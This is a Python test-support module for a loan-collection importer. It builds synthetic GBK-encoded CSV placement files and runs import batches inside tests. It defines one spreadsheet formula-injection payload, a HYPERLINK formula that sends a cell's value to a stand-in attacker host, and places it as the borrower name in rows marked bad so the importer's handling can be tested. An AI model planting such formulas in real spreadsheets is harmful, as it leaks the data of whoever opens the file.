"""Placement files for the imports from the browser (services/import_jobs.py), and a batch made as the
browser makes one, run to its end in the test's own thread."""

from __future__ import annotations

from sqlalchemy import Engine
from tests.support.floor import floor_national_id

from huikuan.services.access import Viewer
from huikuan.services.import_jobs import StartImport, start_import
from huikuan.services.import_runs import run_batch, wait_for
from huikuan.storage.uow import UnitOfWork

HEADER = "贷款编号,借款人,证件号码,联系电话,应还金额,逾期日期"
FORMULA_NAME = '=HYPERLINK("http://evil.invalid/?"&A1)'


def placement_text(rows: int, *, first: int = 500, bad: tuple[int, ...] = (), prefix: str = "W") -> str:
    """A placement file in the creditor's Chinese headers: `rows` good accounts (debtors `first`+1...,
    below 1000: a national ID's sequence has three digits),
    the data rows numbered in `bad` (1-based) with an amount that is not one and a debtor's name that
    would be a formula in a spreadsheet."""
    lines = [HEADER]
    for i in range(1, rows + 1):
        n = first + i
        name, amount = (FORMULA_NAME, "十二点五元") if i in bad else (f"测试{i:04d}", f"{1000 + i}.50")
        lines.append(f"{prefix}{n:05d},{name},{floor_national_id(n)},1391234{n:04d},{amount},2026年1月5日")
    return "\r\n".join(lines) + "\r\n"


def gbk_placement(rows: int, *, first: int = 500, bad: tuple[int, ...] = (), prefix: str = "W") -> bytes:
    """The same file encoded in GBK, as a Chinese bank's system writes it."""
    return placement_text(rows, first=first, bad=bad, prefix=prefix).encode("gbk")


def finished(batch_id: int) -> None:
    """Waits for the batch's background thread (started by the upload) to end."""
    wait_for(batch_id)


def batch_now(engine: Engine, viewer: Viewer, cmd: StartImport) -> int:
    """A batch started as the browser starts one and run to its end here; its id."""
    with UnitOfWork(engine, immediate=True) as uow:
        batch_id = start_import(uow, viewer, cmd)
    run_batch(engine, batch_id)
    return batch_id
